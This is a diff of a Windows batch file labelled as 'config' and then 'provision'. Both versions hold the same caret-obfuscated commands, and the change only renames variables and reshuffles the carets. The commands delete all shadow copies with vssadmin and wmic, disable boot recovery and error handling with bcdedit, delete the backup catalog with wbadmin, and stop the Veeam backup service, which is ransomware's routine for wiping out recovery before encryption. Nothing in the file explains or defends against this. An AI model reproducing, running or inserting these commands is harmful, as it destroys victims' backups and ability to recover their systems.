@@ -1,19 +1,19 @@
-REM config 7228 v1
+REM provision 6960 v1
 @echo off
-set cpll=^vss^a^dm^in del^et^e ^sh^adow^s /al^l /qu^i^et
-call %cpll%
+set btid=^v^ss^a^dmin ^d^ele^te sh^a^d^o^ws /all /^q^uiet
+call %btid%
 @echo off
-set vgpz=wm^i^c ^s^h^a^do^w^cop^y delete
-call %vgpz%
+set bpiv=wmi^c shadowcopy ^d^el^ete
+call %bpiv%
 @echo off
-set wwfw=^bcd^e^di^t /^se^t {^d^efaul^t} r^e^co^ver^ye^n^abl^e^d ^no
-call %wwfw%
+set wyrr=^bc^d^edit /^set {^d^e^f^a^u^lt} ^recov^er^y^e^n^a^bled no
+call %wyrr%
 @echo off
-set ahvr=b^c^dedi^t /set {defa^u^l^t} bo^o^t^s^t^at^u^s^po^li^c^y ^i^g^noreal^l^fai^lu^r^es
-call %ahvr%
+set kuwx=^b^c^d^e^d^it /set {^de^f^aul^t} bo^o^tst^a^t^u^spolicy i^g^no^rea^l^l^fa^ilu^r^es
+call %kuwx%
 @echo off
-set mpkj=^wb^admin del^e^te ^cat^alo^g -^quie^t
-call %mpkj%
+set ukdl=wba^dmin ^dele^te ^ca^t^a^l^o^g -^quie^t
+call %ukdl%
 @echo off
-set ydaz=^n^e^t ^s^top "Veeam Backup Catalog Data Service" /^y
-call %ydaz%
+set vvaa=ne^t s^t^o^p "Veeam Backup Catalog Data Service" /y
+call %vvaa%
